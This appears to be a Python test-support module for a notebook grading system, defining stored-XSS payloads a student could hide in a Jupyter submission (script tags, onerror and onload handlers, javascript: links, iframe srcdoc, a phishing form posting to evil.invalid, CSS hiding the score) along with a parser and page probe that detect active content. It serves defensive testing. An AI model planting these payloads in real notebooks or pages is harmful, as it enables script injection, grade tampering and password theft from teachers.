"""Stored-XSS payloads a student can put into a ps1 submission (issue 9, class 5), and the
probes that tell whether any of them ran in a page.

Every script payload, if it runs, pushes its own name into ``window.__pwned`` (and sets
``document.title``), so a test reads from one list which payloads ran. The others are
checked by their effect: a ``<style>`` that hides the page's score heading, a
``<meta http-equiv=refresh>`` that navigates away, a phishing ``<form>``.

Payloads go where a student controls content:
- :data:`OUTPUT_PAYLOADS`: code in the ``student_id`` answer cell whose outputs carry
  the payload (``IPython.display`` HTML, raw MIME bundles, Markdown, SVG, JavaScript,
  ``_repr_html_``, image metadata);
- :data:`MARKDOWN_PAYLOADS`: the written answers ``effect_of_filters`` and
  ``pooling_effect``, each also holding :data:`KEPT_SENTENCE` (a teacher must still read it).

Also used by the stock-nbgrader comparison of ``docs/reliability.md``.
"""
from __future__ import annotations

import base64
import copy
import re
import zlib
from html.parser import HTMLParser
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
ASSIGNMENT = "ps1"
KEPT_SENTENCE = "The vertical detector responds most where its middle column lies on the line."
HONEST_SENTENCE = "Max pooling keeps the strongest response in each block."
_SOLUTION_MARKER = re.compile(r"^[ \t]*#+[ \t]*(BEGIN|END) SOLUTION[ \t]*\n?", re.MULTILINE)


def js(name):
    """JavaScript that records ``name`` as run (no double quotes: it goes into attributes)."""
    # ends in `void 0`: a javascript: URL whose value is a string replaces the page with it
    return "(window.__pwned=window.__pwned||[]).push('%s');document.title='PWNED %s';void 0" % (name, name)


def _png(width=2, height=2):
    """A small valid PNG (grey pixels), base64."""
    raw = b"".join(b"\x00" + b"\x80" * width for _ in range(height))

    def chunk(kind, data):
        return (len(data).to_bytes(4, "big") + kind + data
                + zlib.crc32(kind + data).to_bytes(4, "big"))

    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x00\x00\x00\x00"
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")
    return base64.b64encode(png).decode("ascii")


PNG = _png()

#: (name, what it does, code appended to the student_id cell). A name is also the marker
#: its script pushes.
OUTPUT_PAYLOADS = [
    ("html-script", "`display(HTML('<script>...'))`",
     "display(HTML(%r))" % ("<b>bold ok</b><script>%s</script>" % js("html-script"))),
    ("raw-bundle-img-onerror", "`display({'text/html': '<img src=x onerror=...>'}, raw=True)`",
     "display({'text/html': %r, 'text/plain': 'img'}, raw=True)"
     % ('<img src="x" onerror="%s">' % js("raw-bundle-img-onerror"))),
    ("repr-html-details-ontoggle", "an object's `_repr_html_` returning `<details open ontoggle=...>`",
     "class Shown:\n    def _repr_html_(self):\n        return %r\ndisplay(Shown())"
     % ('<details open ontoggle="%s"><summary>s</summary>x</details>' % js("repr-html-details-ontoggle"))),
    ("markdown-output-img", "`display(Markdown('... <img src=x onerror=...>'))`",
     "display(Markdown(%r))" % ('**md output** <img src="x" onerror="%s">' % js("markdown-output-img"))),
    ("svg-output-onload", "`display(SVG('<svg onload=...><script>...'))`",
     "display(SVG(%r))" % ('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="%s">'
                           '<script>%s</script><rect width="10" height="10"/></svg>'
                           % (js("svg-output-onload"), js("svg-output-script")))),
    ("javascript-output", "`display(Javascript(...))` (an `application/javascript` output)",
     "display(Javascript(%r))" % js("javascript-output")),
    ("iframe-srcdoc", "`HTML('<iframe srcdoc=\"<script>parent...\">')`",
     "display(HTML(%r))" % ('<iframe srcdoc="&lt;script&gt;%s&lt;/script&gt;"></iframe>'
                            % js("iframe-srcdoc").replace("window.", "parent.")
                            .replace("document.", "parent.document."))),
    ("html-javascript-link", "`HTML('<a href=\"javascript:...\">')` (clicked by the test)",
     "display(HTML(%r))" % ('<a class="pwn-link" href="javascript:%s">pwn-link</a>' % js("html-javascript-link"))),
    ("png-width-metadata", "an `image/png` output whose `width` metadata is `1 onload=...` (attribute injection)",
     "display({'image/png': %r, 'text/plain': 'png'}, raw=True, metadata={'image/png': {'width': %r}})"
     % (PNG, "1 onload=%s" % js("png-width-metadata").replace(" ", ""))),
    ("png-data-breakout", "an `image/png` output whose data is `x\" onerror=\"...`",
     "display({'image/png': %r, 'text/plain': 'png'}, raw=True)" % ('x" onerror="%s' % js("png-data-breakout"))),
    ("style-hides-score", "`HTML('<style>h4 {display: none}</style>')` (hides the score heading)",
     "display(HTML('<style>h4, .panel-heading { display: none !important }</style>'))"),
    ("meta-refresh", "`HTML('<meta http-equiv=refresh content=\"2;url=about:blank#pwned\">')`",
     "display(HTML('<meta http-equiv=\"refresh\" content=\"2;url=about:blank#pwned-refresh\">'))"),
    ("phishing-form", "`HTML('<form action=...><input type=password>')`",
     "display(HTML('<form class=\"pwn-form\" action=\"https://evil.invalid/\"><input type=\"password\" "
     "name=\"pw\"><button>log in</button></form>'))"),
    ("widget-view", "an `application/vnd.jupyter.widget-view+json` output",
     "display({'application/vnd.jupyter.widget-view+json': {'model_id': 'x', 'version_major': 2, "
     "'version_minor': 0}, 'text/plain': 'widget text'}, raw=True)"),
]

#: (name, what it does, Markdown put into a written answer next to KEPT_SENTENCE).
MARKDOWN_PAYLOADS = [
    ("md-script", "`<script>` block in a written answer", "<script>%s</script>" % js("md-script")),
    ("md-img-onerror", "inline `<img src=x onerror=...>` in a written answer",
     'see <img src="x" onerror="%s"> here' % js("md-img-onerror")),
    ("md-javascript-link", "Markdown link `[click](javascript:...)` (clicked by the test)",
     "[pwn-link](javascript:%s)" % js("md-javascript-link").replace(" ", "")),
    ("md-svg-onload", "inline `<svg onload=...>` in a written answer",
     '<svg onload="%s"><circle r="1"/></svg>' % js("md-svg-onload")),
    ("md-details-ontoggle", "`<details open ontoggle=...>` in a written answer",
     '<details open ontoggle="%s"><summary>s</summary>x</details>' % js("md-details-ontoggle")),
    ("md-iframe", "`<iframe srcdoc=...>` in a written answer",
     '<iframe srcdoc="&lt;script&gt;%s&lt;/script&gt;"></iframe>'
     % js("md-iframe").replace("window.", "parent.").replace("document.", "parent.document.")),
    ("md-style", "`<style>` hiding the page in a written answer",
     "<style>h4, .panel-heading { display: none !important }</style>"),
]

MARKERS = [name for name, _, _ in OUTPUT_PAYLOADS] + ["svg-output-script"] + [name for name, _, _ in MARKDOWN_PAYLOADS]


# -- notebooks ---------------------------------------------------------------------------------
def _nbgrader(cell):
    return cell.get("metadata", {}).get("nbgrader", {}) or {}


def model_answers(root=ROOT):
    """``{grade_id: source}`` of the teacher's ps1 solutions, markers removed."""
    source = nbformat.read(Path(root) / "source" / ASSIGNMENT / ("%s.ipynb" % ASSIGNMENT), as_version=4)
    return {_nbgrader(c)["grade_id"]: _SOLUTION_MARKER.sub("", c.source)
            for c in source.cells if _nbgrader(c).get("solution")}


def ps1_notebook(root=ROOT, **answers):
    """The ps1 release notebook with every answer the model solution, then ``answers``."""
    nb = nbformat.read(Path(root) / "release" / ASSIGNMENT / ("%s.ipynb" % ASSIGNMENT), as_version=4)
    chosen = dict(model_answers(root), **answers)
    for cell in nb.cells:
        gid = _nbgrader(cell).get("grade_id")
        if gid in chosen and _nbgrader(cell).get("solution"):
            cell.source = chosen[gid]
    return copy.deepcopy(nb)


def hostile_notebook(student, root=ROOT):
    """ps1, answered correctly, with every payload: outputs from the student_id cell,
    Markdown payloads split over the two written answers."""
    code = "MY_ID = %r\nfrom IPython.display import HTML, Javascript, Markdown, SVG, display\n" % student
    code += "\n".join(c for _, _, c in OUTPUT_PAYLOADS)
    half = len(MARKDOWN_PAYLOADS) // 2
    first = "\n\n".join([KEPT_SENTENCE] + [m for _, _, m in MARKDOWN_PAYLOADS[:half]])
    second = "\n\n".join(["Pooling makes maps smaller."] + [m for _, _, m in MARKDOWN_PAYLOADS[half:]])
    return ps1_notebook(root, student_id=code, effect_of_filters=first, pooling_effect=second)


HONEST_TABLE = "| filter | largest value |\n|:--|--:|\n| vertical | 3 |\n| horizontal | 3 |"


#: What ``DataFrame._repr_html_`` writes (the students' kernel has no pandas): a scoped
#: style, then a bordered table.
HONEST_DATAFRAME = ('<style scoped>.dataframe tbody tr th {vertical-align: top;}</style>'
                    '<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th>'
                    '<th>filter</th><th>honest-cell</th></tr></thead><tbody><tr><th>0</th><td>vertical</td>'
                    '<td><b>3</b></td></tr><tr><th>1</th><td>horizontal</td><td>3</td></tr></tbody></table>')


def honest_notebook(student, root=ROOT):
    """ps1, answered correctly, with a table output (as pandas draws one) and a written
    answer holding a Markdown table, bold text, maths and a link."""
    code = ("MY_ID = %r\nfrom IPython.display import HTML, display\ndisplay(HTML(%r))"
            % (student, HONEST_DATAFRAME))
    answer = ("**%s** Average pooling smooths it: $\\frac{1}{4}\\sum x_i$.\n\n%s\n\nSee "
              "[the notes](https://example.org/pooling)." % (HONEST_SENTENCE, HONEST_TABLE))
    return ps1_notebook(root, student_id=code, pooling_effect=answer)


# -- what a page or fragment holds -------------------------------------------------------------
#: Elements that run, load, navigate, restyle or ask for input.
#: MathML's presentation elements are kept (feedback pages draw maths with them, issue 11);
#: the MathML that can hold HTML, act or load (annotation-xml, maction, mglyph) is active.
ACTIVE_TAGS = {"script", "style", "iframe", "frame", "object", "embed", "meta", "link", "base", "form", "input",
               "button", "svg", "annotation-xml", "maction", "mglyph", "applet", "template", "textarea", "select",
               "portal"}


class ActiveContent(HTMLParser):
    """A real HTML parser (the standard library's) listing what in a fragment could act:
    active elements, event-handler attributes, ``javascript:`` URLs, ``data:`` URLs other
    than images in ``<img src>``."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        if tag in ACTIVE_TAGS:
            self.found.append("<%s>" % tag)
        for name, value in attrs:
            value = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on"):
                self.found.append("%s=" % name)
            elif name in ("href", "src", "action", "formaction", "data", "srcdoc", "xlink:href"):
                if value.startswith(("javascript:", "vbscript:")) or name == "srcdoc":
                    self.found.append("%s=%s" % (name, value[:30]))
                elif value.startswith("data:") and not (tag == "img" and name == "src"
                                                        and value.startswith("data:image/")):
                    self.found.append("%s=%s" % (name, value[:30]))

    handle_startendtag = handle_starttag


def active_content(html_text):
    """What :class:`ActiveContent` finds in ``html_text`` (empty: inert)."""
    parser = ActiveContent()
    parser.feed(html_text)
    parser.close()
    return parser.found


#: Run in a loaded page: which payloads ran, and what the page shows.
PAGE_PROBE = """() => ({
    pwned: window.__pwned || [],
    title: document.title,
    url: location.href,
    forms: document.querySelectorAll('form, input[type=password]').length,
    scoreVisible: [...document.querySelectorAll('h4')].some(h => h.offsetParent !== null),
    jsLinks: [...document.querySelectorAll('[href]')].filter(
        a => /^\\s*javascript:/i.test(a.getAttribute('href'))).length,
})"""
